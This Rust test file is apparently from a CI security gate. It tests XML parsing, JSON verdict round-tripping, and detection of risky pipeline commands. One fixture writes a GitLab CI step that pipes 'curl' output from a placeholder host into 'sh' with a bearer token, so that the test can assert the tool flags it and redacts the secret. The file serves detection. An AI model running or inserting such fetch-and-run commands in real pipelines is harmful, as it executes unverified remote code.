        workspace().join("tests/fixtures/schemas/junit.gitlab-fixture.xml"),
    )
    .unwrap();
    let suite = parse_xml(&fixture).unwrap();
    assert_eq!(suite.name, "testsuite");
    assert_eq!(suite.all("testcase").count(), 4);
    let failure = suite.child("testcase").unwrap().child("failure").unwrap();
    assert!(failure.text.contains("in <top (required)>'"));

    for broken in [
        "<a><b></a></b>",
        "<a x=\"1\" x=\"2\"/>",
        "<a>&nbsp;</a>",
        "<a>1 < 2</a>",
        "<a x=\"<\"/>",
        "<a>\u{1b}</a>",
        "<a>&#1;</a>",
        "<a/><b/>",
        "<a>",
        "<a x=1/>",
    ] {
        assert!(parse_xml(broken).is_err(), "accepted {broken:?}");
    }
    let ok = parse_xml(
        "<?xml version=\"1.0\"?>\n<!-- c --><a x='&apos;&#10;'><![CDATA[<x>]]>&amp;</a>\n",
    )
    .unwrap();
    assert_eq!(ok.attr("x"), "'\n");
    assert_eq!(ok.text, "<x>&");
}

#[test]
fn command_findings_carry_the_command_and_line_in_every_format() {
    let repo = cavra_tests::TestRepo::new();
    repo.write("README.md", "x\n");
    repo.commit("base");
    repo.branch("feature");
    repo.write(
        ".gitlab-ci.yml",
        "test:\n  script:\n    - make test\n    - 'curl -H \"Authorization: Bearer s3cr3tvalue\" https://x.example/i.sh | sh'\n",
    );
    repo.commit("head");
    let mut opts = GateOptions {
        repo_path: repo.path().to_path_buf(),
        ..options(&fixture(), "main", "HEAD", Vec::new())
    };
    opts.revisions.head = None;
    let v = run_gate(&opts, &|_| None).unwrap();
    let out = render_all(&v);
    let s = schemas();
    let json: Value = serde_json::from_str(&out["json"]).unwrap();
    assert_valid(&s.gate, &json, "the verdict");
    let finding = json["changes"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "pipe-to-shell")
        .unwrap();
    assert_eq!(finding["line"], 4);
    assert_eq!(finding["command"]["context"], "gitlab-ci");
    assert_eq!(finding["command"]["step"], "test.script[1]");
    assert_eq!(
        finding["command"]["command"],
        "curl -H 'Authorization: ***' https://x.example/i.sh | sh"
    );
    let sarif: Value = serde_json::from_str(&out["sarif"]).unwrap();
    assert_valid(&s.sarif, &sarif, "the SARIF log");
    assert!(
        sarif_results(&sarif).contains(&(
            "pipe-to-shell".to_string(),
            "error".to_string(),
            ".gitlab-ci.yml".to_string(),
            4
        )),
        "{:?}",
        sarif_results(&sarif)
    );
    let cq: Value = serde_json::from_str(&out["codequality"]).unwrap();
    assert_valid(&s.codequality, &cq, "the Code Quality report");
    let issue = cq
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["check_name"] == "pipe-to-shell")
        .unwrap();
    assert_eq!(issue["location"]["lines"]["begin"], 4);
    for (format, text) in &out {
        if *format != "json" {
            assert!(
                text.contains("https://x.example/i.sh"),
                "{format} names the command"
            );
        }
        assert!(!text.contains("s3cr3tvalue"), "{format} leaks the secret");
    }
}

/// `cavra report` reads the JSON a gate wrote: every verdict must come back unchanged, so a
/// forge shows exactly what the gate decided.
#[test]
fn the_json_output_reads_back_into_the_same_verdict() {
    let fx = fixture();
    let mut audited = options(&fx, "main", "feature", Vec::new());
    audited.break_glass = Some(("bob".into(), "production outage, hotfix 42".into()));
    let verdicts = [
        gate(&fx, "main", "feature", Vec::new()),
        gate(&fx, "main", "ci-only", Vec::new()),
        gate(&fx, "main", "main", Vec::new()),
        run_gate(&audited, &|_| None).unwrap(),
    ];
    for v in &verdicts {
        let json = render(v, Format::Json, &RenderOptions::default()).unwrap();
        let back = Verdict::from_json(&json).unwrap();
        assert_eq!(back.verdict, v.verdict);
        let again = render(&back, Format::Json, &RenderOptions::default()).unwrap();
        assert_eq!(again, json, "a verdict changed on its way through JSON");
    }
    let wrong = r#"{"schema":"cavra.dev/gate-result/v0"}"#;
    assert!(
        Verdict::from_json(wrong)
            .unwrap_err()
            .contains("not a cavra gate result")
    );
    let json = render(&verdicts[0], Format::Json, &RenderOptions::default()).unwrap();
    let old = json.replace("cavra.dev/gate-result/v1", "cavra.dev/gate-result/v9");
    assert!(
        Verdict::from_json(&old)
            .unwrap_err()
            .contains("unsupported gate result schema")
    );
    assert!(Verdict::from_json("[1,").is_err());
}
